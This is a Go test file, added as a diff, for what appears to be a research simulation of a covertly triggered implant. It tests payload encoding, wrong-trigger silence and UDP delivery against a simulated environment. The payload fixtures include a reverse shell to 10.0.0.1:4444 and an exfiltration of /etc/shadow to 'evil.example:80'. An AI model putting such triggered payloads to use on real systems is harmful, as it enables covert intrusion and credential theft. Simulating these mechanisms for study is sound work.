@@ -1,0 +1,274 @@
+package wmapt
+
+import (
+	"bytes"
+	"sort"
+	"testing"
+	"testing/quick"
+
+	"uwm/internal/otp"
+)
+
+func TestPayloadCodecRoundTrip(t *testing.T) {
+	payloads := []Payload{
+		ReverseShell{Addr: "10.0.0.1", Port: 4444},
+		ReverseShell{Addr: "::1", Port: 65535},
+		ExfilShadow{Path: "/etc/shadow", Dest: "evil.example:80"},
+	}
+	for _, p := range payloads {
+		enc, err := EncodePayload(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		dec, err := DecodePayload(enc)
+		if err != nil {
+			t.Fatalf("%s: %v", p.Name(), err)
+		}
+		if dec != p {
+			t.Errorf("round trip: %#v != %#v", dec, p)
+		}
+	}
+}
+
+func TestPayloadCodecRejectsCorruption(t *testing.T) {
+	enc, err := EncodePayload(ReverseShell{Addr: "h", Port: 1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range enc {
+		bad := append([]byte(nil), enc...)
+		bad[i] ^= 0x40
+		if _, err := DecodePayload(bad); err == nil {
+			t.Errorf("corruption at byte %d accepted", i)
+		}
+	}
+	if _, err := DecodePayload(enc[:5]); err == nil {
+		t.Error("truncated payload accepted")
+	}
+	if _, err := DecodePayload(nil); err == nil {
+		t.Error("empty payload accepted")
+	}
+}
+
+// TestGarbageNeverDecodes models the wrong-trigger path: random bytes
+// must essentially never parse as a payload.
+func TestGarbageNeverDecodes(t *testing.T) {
+	f := func(garbage []byte) bool {
+		_, err := DecodePayload(garbage)
+		return err != nil
+	}
+	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestPayloadExecution(t *testing.T) {
+	env := NewEnv()
+	events, err := (ReverseShell{Addr: "1.2.3.4", Port: 9}).Execute(env)
+	if err != nil || len(events) == 0 {
+		t.Fatalf("reverse shell: %v, %v", events, err)
+	}
+	if !env.Shell || len(env.Connections) != 1 {
+		t.Error("reverse shell did not act on the env")
+	}
+
+	env2 := NewEnv()
+	if _, err := (ExfilShadow{Path: "/etc/shadow", Dest: "d:1"}).Execute(env2); err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Contains(env2.Exfiltrated["d:1"], []byte("root:")) {
+		t.Error("exfil payload did not copy the shadow file")
+	}
+
+	env3 := NewEnv()
+	if _, err := (ExfilShadow{Path: "/missing", Dest: "d:1"}).Execute(env3); err == nil {
+		t.Error("exfil of missing file succeeded")
+	}
+}
+
+func TestAPTLifecycle(t *testing.T) {
+	env := NewEnv()
+	apt, err := New(env, Options{Seed: 12, EvalMultiple: 3})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// Ping before install must fail cleanly.
+	if _, err := apt.HandlePing(otp.Pad{}); err != ErrNotInstalled {
+		t.Errorf("pre-install ping err = %v", err)
+	}
+
+	pad, err := apt.Install(ReverseShell{Addr: "10.0.0.1", Port: 4444})
+	if err != nil {
+		t.Fatal(err)
+	}
+	before := env.Snapshot()
+
+	// Wrong triggers stay silent.
+	wrong := pad
+	wrong[10] ^= 4
+	for i := 0; i < 3; i++ {
+		res, err := apt.HandlePing(wrong)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if res != nil {
+			t.Fatal("fired on wrong trigger")
+		}
+	}
+	if env.Snapshot() != before || apt.Triggered() {
+		t.Error("silent phase had effects")
+	}
+	if apt.Pings() != 3 {
+		t.Errorf("pings = %d", apt.Pings())
+	}
+
+	// The correct trigger eventually fires.
+	var fired *Result
+	for i := 0; i < 400 && fired == nil; i++ {
+		fired, err = apt.HandlePing(pad)
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if fired == nil {
+		t.Fatal("correct trigger never fired")
+	}
+	if fired.Payload != "reverse-shell" || !env.Shell {
+		t.Error("payload did not execute")
+	}
+	// Subsequent pings return the same result without re-executing.
+	conns := len(env.Connections)
+	res2, err := apt.HandlePing(pad)
+	if err != nil || res2 == nil {
+		t.Fatal("post-fire ping lost the result")
+	}
+	if len(env.Connections) != conns {
+		t.Error("payload re-executed after firing")
+	}
+}
+
+func TestInstallResetsState(t *testing.T) {
+	env := NewEnv()
+	apt, err := New(env, Options{Seed: 13, EvalMultiple: 2})
+	if err != nil {
+		t.Fatal(err)
+	}
+	pad1, err := apt.Install(ReverseShell{Addr: "a", Port: 1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := apt.HandlePing(pad1); err != nil {
+		t.Fatal(err)
+	}
+	pad2, err := apt.Install(ReverseShell{Addr: "b", Port: 2})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if apt.Pings() != 0 || apt.Triggered() {
+		t.Error("Install did not reset counters")
+	}
+	if pad1 == pad2 {
+		t.Error("pads reused across installs")
+	}
+}
+
+func TestTriggerDistributionShape(t *testing.T) {
+	if testing.Short() {
+		t.Skip("distribution needs several full experiments")
+	}
+	var counts []int
+	for seed := uint64(100); seed < 112; seed++ {
+		n, err := RunTriggerExperiment(seed, ReverseShell{Addr: "x", Port: 1})
+		if err != nil {
+			t.Fatal(err)
+		}
+		counts = append(counts, n)
+	}
+	sort.Ints(counts)
+	med := counts[len(counts)/2]
+	if med < 1 || med > 25 {
+		t.Errorf("median trigger count %d far from the paper's 6 (dist %v)", med, counts)
+	}
+}
+
+func TestLoopbackTransport(t *testing.T) {
+	env := NewEnv()
+	apt, err := New(env, Options{Seed: 14, EvalMultiple: 2})
+	if err != nil {
+		t.Fatal(err)
+	}
+	pad, err := apt.Install(ExfilShadow{Path: "/etc/shadow", Dest: "d:2"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tr := NewLoopback(apt)
+	defer tr.Close()
+	for i := 0; i < 400; i++ {
+		res, err := tr.Send(pad)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if res != nil {
+			return // fired
+		}
+	}
+	t.Fatal("loopback trigger never fired")
+}
+
+func TestUDPTransport(t *testing.T) {
+	env := NewEnv()
+	apt, err := New(env, Options{Seed: 15, EvalMultiple: 4})
+	if err != nil {
+		t.Fatal(err)
+	}
+	pad, err := apt.Install(ReverseShell{Addr: "10.1.1.1", Port: 5555})
+	if err != nil {
+		t.Fatal(err)
+	}
+	l, err := ListenUDP("127.0.0.1:0", apt)
+	if err != nil {
+		t.Skipf("UDP unavailable in this environment: %v", err)
+	}
+	defer l.Close()
+
+	done := make(chan Result, 1)
+	go func() {
+		done <- <-l.Results()
+	}()
+	addr := l.Addr().String()
+	for i := 0; i < 400; i++ {
+		if err := SendUDP(addr, pad); err != nil {
+			t.Fatalf("send: %v", err)
+		}
+		select {
+		case res := <-done:
+			if res.Payload != "reverse-shell" {
+				t.Errorf("payload = %s", res.Payload)
+			}
+			return
+		default:
+		}
+	}
+	// Final blocking wait: the datagrams are processed asynchronously.
+	res := <-done
+	if res.Payload != "reverse-shell" {
+		t.Errorf("payload = %s", res.Payload)
+	}
+}
+
+func TestEnvSnapshotSensitivity(t *testing.T) {
+	a, b := NewEnv(), NewEnv()
+	if a.Snapshot() != b.Snapshot() {
+		t.Error("fresh envs differ")
+	}
+	b.Shell = true
+	if a.Snapshot() == b.Snapshot() {
+		t.Error("snapshot missed a shell")
+	}
+	c := NewEnv()
+	c.Connections = append(c.Connections, "x")
+	if a.Snapshot() == c.Snapshot() {
+		t.Error("snapshot missed a connection")
+	}
+}
